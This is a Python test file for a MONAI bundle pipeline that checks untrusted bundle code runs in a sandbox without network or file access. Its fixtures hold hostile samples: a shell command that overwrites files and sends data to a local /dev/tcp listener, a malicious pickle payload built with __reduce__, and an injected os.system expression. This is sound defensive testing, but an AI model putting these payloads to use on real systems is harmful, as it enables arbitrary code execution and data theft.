"""A bundle's own code runs in a box: it reaches neither network nor files, and only arrays come out."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import threading
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch

from dicom_sr.errors import UnsuitableInput
from pipelines.bundle import BundleError
from pipelines.monai_bundle import confined
from pipelines.monai_bundle.confined import ConfinedRunner, boxed, folders_of, in_box
from pipelines.monai_bundle.folder import BundleFolder
from pipelines.monai_bundle.in_box import IN_BOX
from pipelines.monai_bundle.pipeline_settings import MonaiBundleSettings
from tests.needs import need_a_box
from tests.pipelines.monai_bundle.configured import pipeline, settings, study_of
from tests.pipelines.monai_bundle.made_bundles import threshold_bundle, threshold_weights
from tests.pipelines.monai_bundle.oblique_series import write_body
from tests.pipelines.monai_bundle.test_pipeline import dice, mask_of

SCRIPT = '''
"""An inferer of the bundle's own."""

class Inferer:
    def __call__(self, inputs, network):
        return network(inputs)
'''


def of_code(folder: Path, **parts: Any) -> Path:
    """A threshold bundle whose inferer is a script of its own."""
    made = threshold_bundle(folder, inferer={"_target_": "scripts.mine.Inferer"}, **parts)
    (made / "scripts").mkdir()
    (made / "scripts" / "__init__.py").touch()
    (made / "scripts" / "mine.py").write_text(SCRIPT)
    return made


class Listener:
    """A server on this machine that notes who connects."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.connected = threading.Event()
        threading.Thread(target=self._wait, daemon=True).start()

    def _wait(self) -> None:
        with contextlib.suppress(OSError):
            connection, _ = self._socket.accept()
            connection.close()
            self.connected.set()

    def close(self) -> None:
        self._socket.close()


ATTACKER = """
import os

os.system({command!r})


class Inferer:
    def __init__(self, told=None):
        pass

    def __call__(self, inputs, network):
        for way in {ways}:
            assert os.path.exists(f"/tmp/{{way}}_was_here"), f"the attack by {{way}} did not take place"
        assert sorted(os.listdir(os.path.dirname(os.path.dirname(__file__)))) == ["configs", "models", "scripts"]
        return network(inputs)
"""
WAYS = ("expression", "pickle", "script")


def attack(folder: Path, way: str, port: int) -> str:
    """What malicious code does: touches files, writes over one, and calls home."""
    return (
        f"touch {folder}/{way} /usr/{way}_was_here /tmp/{way}_was_here; echo {way} > {folder}/precious; "
        f"cat {folder}/precious > /dev/tcp/127.0.0.1/{port}"
    )


def in_a_shell(command: str) -> str:
    return f'bash -c "{command}"'


class Malicious:
    """Attacks where it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (in_a_shell(self._command),)


def attacking(folder: Path, attacks: Mapping[str, str]) -> Path:
    """A bundle that attacks in these ways, and then does its work, if all attacks took place."""
    inferer: dict[str, Any] = {"_target_": "scripts.mine.Inferer" if "script" in attacks else "SimpleInferer"}
    if "expression" in attacks:
        inferer["told"] = f"$__import__('os').system({in_a_shell(attacks['expression'])!r})"
    made = threshold_bundle(folder, inferer=inferer)
    if "pickle" in attacks:
        torch.save({"model": threshold_weights(), "more": Malicious(attacks["pickle"])}, made / "models" / "model.pt")
    if "script" in attacks:
        (made / "scripts").mkdir()
        (made / "scripts" / "__init__.py").touch()
        command = in_a_shell(attacks["script"])
        (made / "scripts" / "mine.py").write_text(ATTACKER.format(command=command, ways=tuple(attacks)))
    return made


@pytest.mark.parametrize(
    ("way", "why"),
    [("expression", "not understood"), ("pickle", "holds more than tensors"), ("script", "not on the list")],
)
def test_malicious_code_is_refused_when_declarative(tmp_path: Path, way: str, why: str) -> None:
    bundle = attacking(tmp_path / "bundle", {way: f"touch {tmp_path}/was_here"})
    with pytest.raises(BundleError, match=why):
        pipeline(settings(bundle)).load()
    assert not (tmp_path / "was_here").exists()


def test_malicious_code_in_the_box_reaches_nothing_and_its_bundle_gives_what_it_computes(tmp_path: Path) -> None:
    need_a_box()
    listener = Listener()
    (tmp_path / "precious").write_text("precious")
    attacks = {way: attack(tmp_path, way, listener.port) for way in WAYS}
    paths, mask = write_body(tmp_path / "study")
    bundle = attacking(tmp_path / "bundle", attacks)
    (bundle / "beside.py").touch()  # the digest does not cover it
    result = pipeline(settings(bundle, trust="code")).run(study_of(paths))
    assert dice(mask_of(result), mask) > 0.97
    assert "The bundle ran its own code, in a box without network." in result.limits
    assert (tmp_path / "precious").read_text() == "precious"
    assert not listener.connected.is_set()
    for way, command in attacks.items():
        assert not (tmp_path / way).exists()
        assert not Path(f"/usr/{way}_was_here").exists()
        assert not Path(f"/tmp/{way}_was_here").exists()
        os.system(f"{in_a_shell(command)} 2> /dev/null")  # outside of a box it does all that
        assert (tmp_path / way).exists()
        assert (tmp_path / "precious").read_text() == f"{way}\n"
        for left in (f"/usr/{way}_was_here", f"/tmp/{way}_was_here"):
            Path(left).unlink(missing_ok=True)
    assert listener.connected.wait(10)
    listener.close()


def test_where_there_is_no_box_it_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = of_code(tmp_path)
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(
        BundleError, match=r"needs a box .* for bubblewrap \(bwrap\) is not installed; install Debian's"
    ):
        ConfinedRunner(BundleFolder(bundle), MonaiBundleSettings(**settings(bundle, trust="code")))


def test_an_interpreter_that_is_not_there_or_lacks_a_package_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(IN_BOX, "1")
    paths, _ = write_body(tmp_path / "study")
    entry = settings(of_code(tmp_path / "bundle"), trust="code", python=str(tmp_path / "python"))
    with pytest.raises(BundleError, match="python is no program that this account may run"):
        pipeline(entry).run(study_of(paths))
    (tmp_path / "python").write_text("#!/bin/sh\necho \"ModuleNotFoundError: No module named 'monai'\" >&2\nexit 1\n")
    (tmp_path / "python").chmod(0o700)
    with pytest.raises(BundleError, match=r"python lacks what the bundle needs: .* named 'monai'; install it there"):
        pipeline(entry).run(study_of(paths))


def test_a_worker_in_a_box_of_the_node_needs_no_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(IN_BOX, "1")
    assert in_box()
    monkeypatch.setattr(confined, "why_no_box", lambda: "there is none")
    paths, mask = write_body(tmp_path / "study")
    result = pipeline(settings(of_code(tmp_path / "bundle"), trust="code")).run(study_of(paths))
    assert dice(mask_of(result), mask) > 0.97


@pytest.mark.parametrize("content", [b"no array", b"", "object", "text"])
def test_what_is_no_array_of_numbers_is_not_taken(tmp_path: Path, content: object) -> None:
    path = tmp_path / "values.npy"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        array = np.array(["a"]) if content == "text" else np.array([{}], dtype=object)
        np.save(path, array, allow_pickle=True)
    with pytest.raises(UnsuitableInput, match="left no values that can be read"):
        confined._array(path)


def test_a_pipe_in_place_of_an_array_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "values.npy")
    with pytest.raises(UnsuitableInput, match="left no values that can be read"):
        confined._array(tmp_path / "values.npy")


def test_an_array_that_claims_to_be_larger_than_memory_is_not_taken(tmp_path: Path) -> None:
    with (tmp_path / "values.npy").open("wb") as file:
        header = {"descr": "<f8", "fortran_order": False, "shape": (2**40, 2**10)}
        np.lib.format.write_array_header_1_0(file, header)
    with pytest.raises(UnsuitableInput, match="left no values that can be read"):
        confined._array(tmp_path / "values.npy")


def test_the_box_holds_what_it_is_given_and_nothing_else(tmp_path: Path) -> None:
    words = boxed((tmp_path / "bundle",), tmp_path / "exchange")
    assert "--unshare-all" in words
    assert [words[i + 1] for i, word in enumerate(words) if word == "--bind"] == [str(tmp_path / "exchange")]
    assert str(tmp_path / "bundle") in words
    assert str(Path.home()) not in words


def test_an_interpreter_comes_with_its_environment_and_what_that_was_made_from(tmp_path: Path) -> None:
    (tmp_path / "venv" / "bin").mkdir(parents=True)
    (tmp_path / "venv" / "pyvenv.cfg").write_text(f"home = {tmp_path}/base/bin\nversion = 3.11\n")
    python = tmp_path / "venv" / "bin" / "python"
    (tmp_path / "base" / "bin").mkdir(parents=True)
    (tmp_path / "base" / "bin" / "python3").touch()
    python.symlink_to(tmp_path / "base" / "bin" / "python3")
    assert folders_of(python) == (tmp_path / "venv", tmp_path / "base")
    assert json.dumps([str(one) for one in folders_of(Path("/usr/bin/python3"))])
